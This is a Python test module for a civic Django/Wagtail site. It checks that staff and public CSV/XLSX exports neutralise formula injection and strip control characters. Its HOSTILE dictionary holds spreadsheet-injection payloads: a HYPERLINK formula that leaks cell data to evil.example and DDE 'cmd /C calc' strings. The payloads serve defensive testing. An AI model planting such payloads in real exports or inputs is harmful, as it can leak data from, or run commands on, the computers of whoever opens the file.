"""Every CSV and XLSX export with values typed by hostile people: formulas neutralised, control characters
dropped (XLSX used to answer 500), empty cells empty, numbers still numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission

from fund.models import Application
from participation.models import Contribution, FormPage
from projects.models import ProjectIndexPage, ProjectPage
from stadtteil.exports import cell
from stadtteil.routing import url
from subscriptions.models import CONSENT_VERSION, Subscriber
from tests.conftest import demo_page

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "control": "Bank\x01 am \x1bSpielplatz\x7f",
}
NEUTRALISED = {
    "hyperlink": "'" + HOSTILE["hyperlink"],
    "plus": "'" + HOSTILE["plus"],
    "minus": "'" + HOSTILE["minus"],
    "at": "'" + HOSTILE["at"],
    "tab": "'\t=1+1",
    "cr": "'\r=1+1",
    "control": "Bank am Spielplatz",
}


def content(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(response):
    text = content(response).decode("utf-8-sig")
    delimiter = ";" if ";" in text.splitlines()[0] else ","
    return [value for row in csv.reader(io.StringIO(text), delimiter=delimiter) for value in row]


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(content(response))).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_safe_csv(response, expected):
    assert response.status_code == 200
    values = csv_cells(response)
    for text in expected:
        assert text in values, text
    for value in values:
        assert not value.startswith(("=", "+", "@", "\t", "\r")) or value.lstrip("+").replace(" ", "").isdigit()
        assert "\x01" not in value and "\x1b" not in value


def assert_safe_xlsx(response, expected):
    assert response.status_code == 200
    cells = xlsx_cells(response)
    values = [c.value for c in cells]
    for text in expected:
        assert text in values, text
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere


# --- the helper itself -------------------------------------------------------------------------------------------
@pytest.mark.parametrize("key", HOSTILE)
def test_cell_neutralises_formulas_and_drops_control_characters(key):
    assert cell(HOSTILE[key]) == NEUTRALISED[key]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        ("", ""),
        ("Spielplatz", "Spielplatz"),
        (12, 12),
        (Decimal("-1200.50"), Decimal("-1200.50")),
        (-3.5, -3.5),
        (True, True),
        ("-12", "-12"),  # a number written as text is no formula
        ("+49 2307 12345", "+49 2307 12345"),
        ("Zeile 1\nZeile 2\tTab", "Zeile 1\nZeile 2\tTab"),  # line breaks and tabs inside stay
        ("\x01", ""),
    ],
)
def test_cell_keeps_numbers_text_and_empty_cells(value, expected):
    assert cell(value) == expected


# --- public exports: plan (CSV, XLSX) and open data (CSV) -------------------------------------------------------
@pytest.fixture
def hostile_measure(demo):
    measure = ProjectPage.objects.get(locale=demo["de"], slug="spielplatz-rosenstrasse")
    measure.title = HOSTILE["hyperlink"]
    measure.responsible_body = HOSTILE["control"]
    measure.summary = HOSTILE["at"]
    measure.address = HOSTILE["plus"]
    measure.save_revision().publish()
    return measure


def test_plan_csv_german(client, hostile_measure):
    response = client.get(url(demo_page(ProjectIndexPage), "plan_csv"))
    assert_safe_csv(response, [NEUTRALISED["hyperlink"], NEUTRALISED["control"]])
    assert any(value.isdigit() and int(value) > 0 for value in csv_cells(response))  # amounts stay numbers


def test_plan_csv_english(client, demo, hostile_measure):
    english = hostile_measure.get_translation(demo["en"])
    english.title = HOSTILE["minus"]
    english.responsible_body = HOSTILE["tab"]
    english.save_revision().publish()
    response = client.get(url(demo_page(ProjectIndexPage, lang="en"), "plan_csv"))
    assert_safe_csv(response, [NEUTRALISED["minus"], NEUTRALISED["tab"]])


def test_plan_xlsx(client, hostile_measure):
    response = client.get(url(demo_page(ProjectIndexPage), "plan_xlsx"))
    assert_safe_xlsx(response, [NEUTRALISED["hyperlink"], NEUTRALISED["control"]])
    numbers = [c.value for c in xlsx_cells(response) if isinstance(c.value, int)]
    assert numbers and max(numbers) > 0  # amounts are numbers, not text


def test_open_data_csv(client, hostile_measure):
    response = client.get(url(demo_page(ProjectIndexPage), "data_csv"))
    assert_safe_csv(response, [NEUTRALISED["hyperlink"], NEUTRALISED["at"], NEUTRALISED["plus"]])
    rows = list(csv.DictReader(io.StringIO(content(response).decode("utf-8-sig"))))
    # Empty stays empty (no apostrophe), numbers stay numbers.
    assert any(row["latitude"] == "" for row in rows) or all(row["latitude"] for row in rows)
    assert all(not row["latitude"].startswith("'") for row in rows)
    assert all(row["total_cost_eur"].isdigit() for row in rows)


# --- staff exports -------------------------------------------------------------------------------------------------
@pytest.fixture
def hostile_contribution(demo):
    return Contribution.objects.create(
        message=HOSTILE["hyperlink"],
        address=HOSTILE["control"],
        contact_name=HOSTILE["at"],
        public_reply="",
        language="de",
        status=Contribution.Status.APPROVED,
    )


def test_participation_csv(admin_client, hostile_contribution):
    response = admin_client.get("/admin/participation/export/csv/")
    assert_safe_csv(response, [NEUTRALISED["hyperlink"], NEUTRALISED["control"], NEUTRALISED["at"]])
    text = content(response).decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text), delimiter=";") if r and r[0] == str(hostile_contribution.pk))
    assert "'" not in row  # empty cells stay empty
    assert "" in row


def test_participation_xlsx(admin_client, hostile_contribution):
    response = admin_client.get("/admin/participation/export/xlsx/")
    assert_safe_xlsx(response, [NEUTRALISED["hyperlink"], NEUTRALISED["control"]])


@pytest.fixture
def hostile_application(demo):
    from tests.fund.conftest import make_application

    return make_application(
        title=HOSTILE["hyperlink"],
        description=HOSTILE["plus"],
        address=HOSTILE["control"],
        organisation=HOSTILE["at"],
        year=timezone.localdate().year,
    )


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_fund_application_exports(admin_client, hostile_application, export):
    response = admin_client.get(f"/admin/fund_applications/?export={export}")
    expected = [NEUTRALISED["hyperlink"], NEUTRALISED["control"]]
    if export == "csv":
        assert_safe_csv(response, expected)
    else:
        assert_safe_xlsx(response, expected)
    assert Application.objects.filter(pk=hostile_application.pk).exists()


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_subscriber_exports(admin_client, demo, export):
    Subscriber.objects.create(
        email="=cmd@example.org",
        language="de",
        status=Subscriber.Status.CONFIRMED,
        consent_at=timezone.now(),
        consent_url="http://testserver/de/newsletter/?x=\x01",
        consent_version=CONSENT_VERSION,
        confirmed_at=timezone.now(),
    )
    response = admin_client.get(f"/admin/subscribers/?export={export}")
    if export == "csv":
        assert_safe_csv(response, ["'=cmd@example.org"])
    else:
        assert_safe_xlsx(response, ["'=cmd@example.org"])


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_form_submission_exports(admin_client, demo, export):
    survey = FormPage.objects.filter(locale=demo["de"]).first()
    field = survey.form_fields.filter(field_type__in=["singleline", "multiline"]).first()
    FormSubmission.objects.create(page=survey, form_data={field.clean_name: HOSTILE["hyperlink"] + HOSTILE["control"]})
    response = admin_client.get(f"/admin/forms/submissions/{survey.pk}/?export={export}")
    expected = ["'" + HOSTILE["hyperlink"] + NEUTRALISED["control"]]
    if export == "csv":
        assert_safe_csv(response, expected)
    else:
        assert_safe_xlsx(response, expected)
